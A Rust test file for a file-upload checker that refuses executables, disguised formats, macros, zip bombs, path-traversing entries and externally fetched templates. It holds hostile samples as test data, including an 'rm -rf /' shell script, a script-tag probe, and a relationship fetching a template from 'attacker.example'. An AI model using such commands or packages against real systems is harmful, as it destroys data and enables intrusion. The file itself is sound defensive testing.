//! Files built here byte by byte (no sample file is a program anyone could run), each checked
//! as the type its name would make it.

use super::*;
use quire_core::files::{FileName, FileType};
use std::io::{Cursor, Write};
use zip::write::SimpleFileOptions;
use zip::CompressionMethod;

fn kind(name: &str) -> &'static FileType {
    FileType::of(&FileName::sanitise(name).name).expect("an accepted type")
}

fn check_with(name: &str, bytes: &[u8], limits: &Limits) -> Result<(), Refusal> {
    let size = bytes.len() as u64;
    inspect(&mut Cursor::new(bytes), size, size, kind(name), limits)
}

fn check(name: &str, bytes: &[u8]) -> Result<(), Refusal> {
    check_with(name, bytes, &Limits::default())
}

fn code(result: Result<(), Refusal>) -> &'static str {
    match result {
        Ok(()) => "accepted",
        Err(refusal) => refusal.code(),
    }
}

const DOCX_MAIN: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

fn content_types(main: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="{main}"/></Types>"#
    )
}

/// A package of `(name, content, method)` entries, in that order.
fn package(entries: &[(&str, &[u8], CompressionMethod)]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content, method) in entries {
        zip.start_file(*name, SimpleFileOptions::default().compression_method(*method))
            .unwrap();
        zip.write_all(content).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn docx_with(extra: &[(&str, &[u8], CompressionMethod)]) -> Vec<u8> {
    let types = content_types(DOCX_MAIN);
    let mut entries: Vec<(&str, &[u8], CompressionMethod)> = vec![
        ("[Content_Types].xml", types.as_bytes(), CompressionMethod::Deflated),
        ("word/document.xml", b"<w:document/>", CompressionMethod::Deflated),
    ];
    entries.extend_from_slice(extra);
    package(&entries)
}

fn png() -> Vec<u8> {
    let mut bytes = vec![0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A];
    bytes.extend_from_slice(&[
        0, 0, 0, 13, b'I', b'H', b'D', b'R', 0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0,
    ]);
    bytes.extend_from_slice(&[0; 16]);
    bytes
}

fn padded(head: &[u8]) -> Vec<u8> {
    let mut bytes = head.to_vec();
    bytes.resize(256, 0);
    bytes
}

#[test]
fn each_accepted_type_passes_with_its_own_content() {
    assert_eq!(
        code(check("report.pdf", b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n")),
        "accepted"
    );
    assert_eq!(code(check("scan.png", &png())), "accepted");
    assert_eq!(code(check("photo.jpg", &padded(&[0xFF, 0xD8, 0xFF, 0xE0]))), "accepted");
    assert_eq!(code(check("scan.tiff", &padded(b"II*\0"))), "accepted");
    assert_eq!(
        code(check("notes.txt", "Lot 7 released at 21 °C\r\n".as_bytes())),
        "accepted"
    );
    assert_eq!(code(check("batch.csv", b"lot,result\n7,pass\n")), "accepted");
    assert_eq!(code(check("empty.txt", b"")), "accepted");
    assert_eq!(code(check("sop.docx", &docx_with(&[]))), "accepted");
}

#[test]
fn programs_are_refused_under_any_name() {
    let elf = padded(&[0x7F, b'E', b'L', b'F', 2, 1, 1]);
    let pe = padded(b"MZ\x90\x00");
    let mach_o = padded(&[0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1]);
    let script = b"#!/bin/sh\nrm -rf /\n".to_vec();
    for (name, bytes) in [
        ("manual.pdf", &elf),
        ("manual.pdf", &pe),
        ("scan.png", &mach_o),
        ("notes.txt", &pe),
        ("notes.txt", &script),
    ] {
        let refused = check(name, bytes).unwrap_err();
        assert_eq!(refused.code(), "executable", "{name}: {refused:?}");
    }
}

#[test]
fn content_of_another_type_is_refused() {
    let cases: [(&str, Vec<u8>, &str); 6] = [
        // A zip calling itself a picture.
        ("scan.png", docx_with(&[]), "type-mismatch"),
        // A picture calling itself a PDF.
        ("report.pdf", png(), "type-mismatch"),
        // A PDF header behind other bytes: how polyglots hide one format in another.
        ("report.pdf", b"GIF89a%PDF-1.7\n".to_vec(), "type-mismatch"),
        // A PDF calling itself text.
        ("notes.txt", b"%PDF-1.7\n".to_vec(), "type-mismatch"),
        // Text calling itself a picture.
        ("photo.jpg", b"just text".to_vec(), "type-mismatch"),
        // A plain zip calling itself a spreadsheet: no [Content_Types].xml.
        (
            "table.xlsx",
            package(&[("data.bin", b"x", CompressionMethod::Stored)]),
            "package",
        ),
    ];
    for (name, bytes, expected) in cases {
        let result = check(name, &bytes);
        assert_eq!(code(result.clone()), expected, "{name}: {result:?}");
    }
}

#[test]
fn text_is_utf8_without_nul_even_across_reads() {
    assert_eq!(code(check("notes.txt", b"a\0b")), "type-mismatch");
    assert_eq!(code(check("notes.txt", b"caf\xE9")), "type-mismatch");
    // A two-byte character split by the 64 KiB read, and one cut off at the end.
    let mut straddling = vec![b'a'; 64 * 1024 - 1];
    straddling.extend_from_slice("é and more".as_bytes());
    assert_eq!(code(check("notes.txt", &straddling)), "accepted");
    let mut cut = vec![b'a'; 10];
    cut.push(0xC3);
    assert_eq!(code(check("notes.txt", &cut)), "type-mismatch");
}

#[test]
fn sizes_are_bounded_and_must_be_as_declared() {
    let bytes = b"%PDF-1.7\n".to_vec();
    let small = Limits {
        max_bytes: 4,
        ..Limits::default()
    };
    assert_eq!(
        check_with("report.pdf", &bytes, &small),
        Err(Refusal::TooLarge { size: 9, limit: 4 })
    );
    let declared_other = inspect(&mut Cursor::new(&bytes), 9, 10, kind("report.pdf"), &Limits::default());
    assert_eq!(
        declared_other,
        Err(Refusal::SizeMismatch {
            declared: 10,
            actual: 9
        })
    );
}

#[test]
fn office_packages_must_be_what_they_claim_and_hold_no_macros() {
    let docx = docx_with(&[]);
    let as_spreadsheet = check("table.xlsx", &docx).unwrap_err();
    assert_eq!(as_spreadsheet.code(), "package");
    assert!(
        as_spreadsheet.reason().contains("main part"),
        "{}",
        as_spreadsheet.reason()
    );
    let macro_project = docx_with(&[("word/vbaProject.bin", b"\xD0\xCF\x11\xE0", CompressionMethod::Stored)]);
    assert!(check("sop.docx", &macro_project)
        .unwrap_err()
        .reason()
        .contains("macro"));
    let macro_type = package(&[
        (
            "[Content_Types].xml",
            content_types("application/vnd.ms-word.document.macroEnabled.main+xml").as_bytes(),
            CompressionMethod::Stored,
        ),
        ("word/document.xml", b"<w:document/>", CompressionMethod::Stored),
    ]);
    assert!(check("sop.docx", &macro_type).unwrap_err().reason().contains("macro"));
    let escaping = docx_with(&[("../../outside.xml", b"x", CompressionMethod::Stored)]);
    assert!(check("sop.docx", &escaping).unwrap_err().reason().contains("leaves"));
    for outside in ["/etc/cron.d/x", "..\\outside.xml", "C:/outside.xml"] {
        let escaping = docx_with(&[(outside, b"x", CompressionMethod::Stored)]);
        let refused = check("sop.docx", &escaping).unwrap_err();
        assert!(refused.reason().contains("leaves"), "{outside}: {}", refused.reason());
    }
}

#[test]
fn packages_that_would_unpack_to_far_more_are_refused() {
    // 20 MiB of zeros packs to about 20 KiB: a thousand times its size.
    let zeros = vec![0u8; 20 * 1024 * 1024];
    let bomb = docx_with(&[("word/media/pad.bin", &zeros, CompressionMethod::Deflated)]);
    let refused = check("sop.docx", &bomb).unwrap_err();
    assert!(refused.reason().contains("times its size"), "{}", refused.reason());
    // Within the ratio but over the unpacked limit.
    let tight = Limits {
        max_unpacked_bytes: 1024,
        ..Limits::default()
    };
    let stored = docx_with(&[("word/media/pad.bin", &[7u8; 4096], CompressionMethod::Stored)]);
    let refused = check_with("sop.docx", &stored, &tight).unwrap_err();
    assert!(refused.reason().contains("over the limit"), "{}", refused.reason());
    // Too many entries.
    let few = Limits {
        max_zip_entries: 2,
        ..Limits::default()
    };
    let three = docx_with(&[("word/styles.xml", b"<w:styles/>", CompressionMethod::Stored)]);
    assert!(check_with("sop.docx", &three, &few)
        .unwrap_err()
        .reason()
        .contains("entries"));
    // A [Content_Types].xml past its bound is not read to its end.
    let mut huge = content_types(DOCX_MAIN);
    huge.push_str(&" ".repeat(2 * 1024 * 1024));
    let oversized = package(&[
        ("[Content_Types].xml", huge.as_bytes(), CompressionMethod::Stored),
        ("word/document.xml", b"<w:document/>", CompressionMethod::Stored),
    ]);
    assert!(check("sop.docx", &oversized)
        .unwrap_err()
        .reason()
        .contains("too large"));
}

#[test]
fn truncated_packages_and_garbage_are_refused_not_panicking() {
    let docx = docx_with(&[]);
    for cut in [4, 30, docx.len() / 2, docx.len() - 1] {
        let result = check("sop.docx", &docx[..cut]);
        assert!(result.is_err(), "cut at {cut}");
    }
    assert_eq!(code(check("sop.docx", b"")), "type-mismatch");
    assert!(check("sop.docx", b"PK\x03\x04garbage").is_err());
}

#[test]
fn reasons_never_echo_the_files_bytes() {
    let refusals = [
        check("report.pdf", b"<script>alert(1)</script>").unwrap_err(),
        check("notes.txt", b"\0<script>").unwrap_err(),
        check("sop.docx", b"PK\x03\x04<script>").unwrap_err(),
    ];
    for refusal in refusals {
        assert!(!refusal.reason().contains("script"), "{}", refusal.reason());
    }
}

fn docx_types(types: &str, extra: &[(&str, &[u8], CompressionMethod)]) -> Vec<u8> {
    let mut entries: Vec<(&str, &[u8], CompressionMethod)> = vec![
        ("[Content_Types].xml", types.as_bytes(), CompressionMethod::Deflated),
        ("word/document.xml", b"<w:document/>", CompressionMethod::Deflated),
    ];
    entries.extend_from_slice(extra);
    package(&entries)
}

/// Sets the uncompressed size of every header (local and central) of the entry `name` to 0:
/// what a bomb declares while it unpacks to more.
fn declare_empty(zip: &mut [u8], name: &str) {
    let name = name.as_bytes();
    let mut at = 0;
    while at + 46 <= zip.len() {
        let signature: [u8; 4] = zip[at..at + 4].try_into().unwrap();
        if signature == [0x50, 0x4b, 0x03, 0x04] && zip[at + 30..].starts_with(name) {
            zip[at + 22..at + 26].fill(0);
        }
        if signature == [0x50, 0x4b, 0x01, 0x02] && zip[at + 46..].starts_with(name) {
            zip[at + 24..at + 28].fill(0);
        }
        at += 1;
    }
}

#[test]
fn packages_whose_entries_lie_or_hide_are_refused() {
    // Names equal but for case: Quire would read one, Office the other.
    let twice = docx_with(&[("[content_types].xml", b"<Types/>", CompressionMethod::Stored)]);
    assert!(check("sop.docx", &twice).unwrap_err().reason().contains("one name"));
    // An entry declaring it is empty while it unpacks to 4 MiB.
    let zeros = vec![0u8; 4 * 1024 * 1024];
    let mut lying = docx_with(&[("word/media/pad.bin", &zeros, CompressionMethod::Deflated)]);
    declare_empty(&mut lying, "word/media/pad.bin");
    assert_eq!(code(check("sop.docx", &lying)), "package");
    // The same entry, honest and within the ratio, passes.
    let text = "A line of an honest appendix.\n".repeat(1000);
    let honest = docx_with(&[("word/appendix.xml", text.as_bytes(), CompressionMethod::Deflated)]);
    assert_eq!(code(check("sop.docx", &honest)), "accepted");
}

#[test]
fn active_content_and_outside_references_are_refused_however_spelt() {
    let with_override = |extra: &str| content_types(DOCX_MAIN).replace("</Types>", &format!("{extra}</Types>"));
    // A VBA project under another name, declared by its content type.
    let vba = with_override(r#"<Override PartName="/word/x.dat" ContentType="application/vnd.ms-office.vbaProject"/>"#);
    let refused = check(
        "sop.docx",
        &docx_types(&vba, &[("word/x.dat", b"\xD0\xCF", CompressionMethod::Stored)]),
    );
    assert!(refused.unwrap_err().reason().contains("active content"));
    // Macro-enabled spelt with a character reference, and the main part named only in a comment.
    let escaped = content_types("application/vnd.ms-word.document.macro&#69;nabled.main+xml");
    assert!(check("sop.docx", &docx_types(&escaped, &[]))
        .unwrap_err()
        .reason()
        .contains("character reference"));
    let commented = format!("<!-- {} -->", content_types(DOCX_MAIN));
    assert!(check("sop.docx", &docx_types(&commented, &[])).is_err());
    let ole = with_override(
        r#"<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>"#,
    );
    assert!(check("sop.docx", &docx_types(&ole, &[]))
        .unwrap_err()
        .reason()
        .contains("active content"));
    // A template fetched from outside when the file opens; a hyperlink is only shown.
    let rels = |kind: &str| {
        format!(
            r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>"#
        )
    };
    let template = rels("attachedTemplate");
    let remote = docx_with(&[(
        "word/_rels/settings.xml.rels",
        template.as_bytes(),
        CompressionMethod::Deflated,
    )]);
    assert!(check("sop.docx", &remote).unwrap_err().reason().contains("outside"));
    let link = rels("hyperlink");
    let linked = docx_with(&[(
        "word/_rels/document.xml.rels",
        link.as_bytes(),
        CompressionMethod::Deflated,
    )]);
    assert_eq!(code(check("sop.docx", &linked)), "accepted");
}
